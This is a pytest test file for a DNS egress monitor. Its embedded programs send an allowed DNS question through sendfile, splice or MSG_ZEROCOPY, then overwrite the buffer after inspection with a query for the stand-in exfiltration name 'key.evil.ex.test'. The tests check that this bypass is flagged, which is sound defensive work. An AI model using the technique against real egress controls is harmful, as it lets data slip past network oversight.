"""Questions that are not yet what they seem: changed once read, or sent after the end."""

import os
import sys
from collections.abc import Callable
from pathlib import Path

import pytest

from support.lab import SERVER4, Lab
from support.outside import outside
from support.watching import Watched

Watch = Callable[..., Watched]
PYTHON = sys.executable

POLICY = """
version = 1
enforce = "fail"
[[allow]]
host = "api.example.test"
ports = [80]
"""

# Of one length: one takes the other's place.
PRELUDE = f"""
import mmap, os, socket, struct, sys, tempfile
SERVER = ("{SERVER4}", 53)
def question(name, number=7):
    labels = b"".join(bytes([len(one)]) + one for one in name.encode().split(b"."))
    return struct.pack("!HHHHHH", number, 0x0100, 1, 0, 0, 0) + labels + b"\\0\\0\\1\\0\\1"
def framed(data):
    return struct.pack("!H", len(data)) + data
GOOD, EVIL = question("api.example.test"), question("key.evil.ex.test")
assert len(GOOD) == len(EVIL)
def stream():
    made = socket.create_connection(SERVER, 20)
    made.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
    return made
def datagrams():
    made = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    made.settimeout(20)
    made.connect(SERVER)
    return made
def file_with(data):
    made = tempfile.TemporaryFile()
    made.write(data)
    made.flush()
    return os.dup(made.fileno())
def splice(file, size, made):
    reads, writes = os.pipe()
    assert os.splice(file, writes, size, 0) == size
    assert os.splice(reads, made.fileno(), size) == size
"""

SENT = {
    "sendfile": """
data = framed(GOOD)
made, file = stream(), file_with(data)
assert os.sendfile(made.fileno(), file, 0, len(data)) == len(data)
os.pwrite(file, framed(EVIL), 0)
""",
    "splice": """
data = framed(GOOD)
made, file = stream(), file_with(data)
splice(file, len(data), made)
os.pwrite(file, framed(EVIL), 0)
""",
    "MSG_ZEROCOPY": """
page = mmap.mmap(-1, 4096)
page[: len(GOOD) + 2] = framed(GOOD)
made = stream()
made.setsockopt(socket.SOL_SOCKET, 60, 1)  # SO_ZEROCOPY
made.send(memoryview(page)[: len(GOOD) + 2], 0x4000000)
page[: len(GOOD) + 2] = framed(EVIL)
""",
    "splice to UDP": """
made, file = datagrams(), file_with(GOOD)
splice(file, len(GOOD), made)
os.pwrite(file, EVIL, 0)
""",
    "MSG_ZEROCOPY over UDP": """
page = mmap.mmap(-1, 4096)
page[: len(GOOD)] = GOOD
made = datagrams()
made.setsockopt(socket.SOL_SOCKET, 60, 1)
made.send(memoryview(page)[: len(GOOD)], 0x4000000)
page[: len(GOOD)] = EVIL
""",
}


def run_program(watched: Watch, code: str, **how: object) -> Watched:
    return watched(PYTHON, "-c", PRELUDE + code, policy=POLICY, **how)


# The file's pages are the packet's: who writes to the file changes what is sent again,
# or what waits for its next hop.
@pytest.mark.parametrize("how", SENT)
def test_a_question_that_its_sender_can_still_change_is_a_violation(
    watched: Watch, how: str
) -> None:
    run = run_program(watched, SENT[how] + "made.recv(512)\n")

    told = [one for one in run.of("dns") if one["unread_bytes"]]
    assert [one["verdict"] for one in told] == ["violation"], (run.of("dns"), run.stderr)
    assert "could change them after they were read" in told[0]["reason"]
    assert run.status == 120


def test_the_same_question_copied_into_the_packet_is_a_look_up(watched: Watch) -> None:
    code = """
for made, data in ((stream(), framed(GOOD)), (datagrams(), GOOD)):
    made.send(data)
    assert made.recv(512)
"""

    run = run_program(watched, code)

    assert [one["verdict"] for one in run.of("dns")] == ["allowed", "allowed"]
    assert run.end["verdict"] == "clean"
